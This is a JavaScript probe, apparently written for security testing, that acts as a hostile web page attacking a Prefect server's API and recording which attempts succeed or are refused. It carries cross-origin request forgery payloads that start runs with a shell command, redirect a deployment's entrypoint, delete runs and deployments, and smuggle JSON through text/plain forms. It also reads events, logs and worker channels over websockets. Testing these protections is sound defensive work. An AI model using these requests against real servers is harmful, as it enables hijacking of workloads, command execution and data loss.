// What a hostile page tries on a Prefect server whose every id it knows. It returns [what, what came of it] for each.
(async () => {
  const { api, deployment, schedule, run } = TARGET;
  const sockets = api.replace(/^http/, "ws");
  const form = { name: "hostile", parameters: {}, tags: ["hostile"], job_variables: { command: "touch /tmp/hostile" } };
  const found = [];

  const attempt = async (what, work) => {
    try { found.push([what, await work()]); } catch { found.push([what, "refused"]); }
  };
  const ask = (what, method, path, body, more = {}) => attempt(what, async () => {
    const json = body === undefined ? {} : { body: JSON.stringify(body), headers: { "Content-Type": "application/json" } };
    const answer = await fetch(`${api}${path}`, { method, ...json, ...more });
    if (answer.type === "opaque") return "nothing to read";
    const text = await answer.text();
    return [401, 403, 421].includes(answer.status) ? "refused" : `${answer.status}: ${text.slice(0, 200)}`;
  });
  const loaded = (what, tag, address) => attempt(what, () => new Promise((done) => {
    const element = document.createElement(tag);
    element.onload = () => done(element.contentDocument?.body?.innerText || "nothing to read");
    element.onerror = () => done("refused");
    element.src = address;
    (document.body || document.documentElement).append(element);
    setTimeout(() => done("nothing to read"), 3000);
  }));
  const socket = (what, path, protocols, ...messages) => attempt(what, () => new Promise((done) => {
    const open = new WebSocket(`${sockets}${path}`, protocols);
    open.onopen = () => messages.forEach((message) => open.send(JSON.stringify(message)));
    open.onmessage = ({ data }) => done(`read ${data}`);
    open.onclose = () => done("refused");
    setTimeout(() => done("still open"), 10000);
  }));

  // Reading.
  await ask("list the deployments", "POST", "/deployments/filter", {});
  await ask("list the runs", "POST", "/flow_runs/filter", {});
  await ask("read a deployment", "GET", `/deployments/${deployment}`);
  await ask("read the settings", "GET", "/admin/settings");
  await ask("get a CSRF token", "GET", "/csrf-token?client=hostile");
  await ask("read with the cookies of the browser", "GET", `/flow_runs/${run}`, undefined, { credentials: "include" });
  await ask("read without leave to read", "GET", "/admin/settings", undefined, { mode: "no-cors" });

  // Changing, as the UI would.
  await ask("start a run", "POST", `/deployments/${deployment}/create_flow_run`, form);
  await ask("switch the schedule", "PATCH", `/deployments/${deployment}/schedules/${schedule}`, { active: false });
  await ask("pause the deployment", "POST", `/deployments/${deployment}/pause_deployment`);
  await ask("have it run something else", "PATCH", `/deployments/${deployment}`, { entrypoint: "/tmp/hostile.py:run" });
  await ask("cancel a run", "POST", `/flow_runs/${run}/set_state`, { state: { type: "CANCELLED" }, force: true });
  await ask("delete a run", "DELETE", `/flow_runs/${run}`);
  await ask("delete the deployment", "DELETE", `/deployments/${deployment}`);
  await ask("pause the work pool", "PATCH", "/work_pools/quarterly", { is_paused: true });
  await ask("make a work pool", "POST", "/work_pools/", { name: "hostile", type: "process" });
  await ask("make a variable", "POST", "/variables/", { name: "hostile", value: "1" });

  // Changing without asking the server first: what a browser sends across origins without a preflight.
  for (const [what, body] of [["text", JSON.stringify(form)], ["bytes without a type", new Blob([JSON.stringify(form)])]]) {
    await ask(`start a run by ${what}`, "POST", `/deployments/${deployment}/create_flow_run`, undefined, { mode: "no-cors", body });
    await ask(`pause by ${what}`, "POST", `/deployments/${deployment}/pause_deployment`, undefined, { mode: "no-cors", body });
  }
  await attempt("start a run by a beacon", async () => {
    navigator.sendBeacon(`${api}/deployments/${deployment}/create_flow_run`, JSON.stringify(form));
    return "nothing to read";
  });
  for (const path of [`/deployments/${deployment}/create_flow_run`, `/deployments/${deployment}/pause_deployment`]) {
    await attempt(`post a form to ${path.split("/").pop()}`, () => new Promise((done) => {
      const frame = document.createElement("iframe"), sent = document.createElement("form"), field = document.createElement("input");
      frame.name = path;
      // Sent as text/plain this is JSON: {"name": "hostile", …, "x": "="}
      Object.assign(sent, { method: "POST", enctype: "text/plain", action: `${api}${path}`, target: path });
      Object.assign(field, { name: `${JSON.stringify(form).slice(0, -1)},"x":"`, value: '"}' });
      sent.append(field);
      (document.body || document.documentElement).append(frame, sent);
      frame.onload = () => { try { if (frame.contentDocument) return; } catch {} done("nothing to read"); };
      sent.submit();
      setTimeout(() => done("nothing to read"), 3000);
    }));
  }

  // What may be loaded from anywhere.
  await loaded("an image", "img", `${api}/flow_runs/${run}`);
  await loaded("a script", "script", `${api}/deployments/${deployment}`);
  await loaded("the UI in a frame", "iframe", api.replace("/api", "/v2/dashboard"));

  // Websockets, which no preflight protects.
  const event = { occurred: new Date().toISOString(), event: "hostile", id: crypto.randomUUID?.() ?? run, resource: { "prefect.resource.id": "hostile" } };
  const login = { type: "auth", token: "" };
  await socket("send an event", "/events/in", [], event);
  await socket("send an event as Prefect does", "/events/in", ["prefect"], login, event);
  await socket("read the events", "/events/out", ["prefect"], login, { type: "filter", filter: {} });
  await socket("read the logs", "/logs/out", ["prefect"], login, { type: "filter", filter: {} });
  await socket("work as a worker", "/work_pools/quarterly/workers/connect", ["prefect"], login);
  return found;
})()
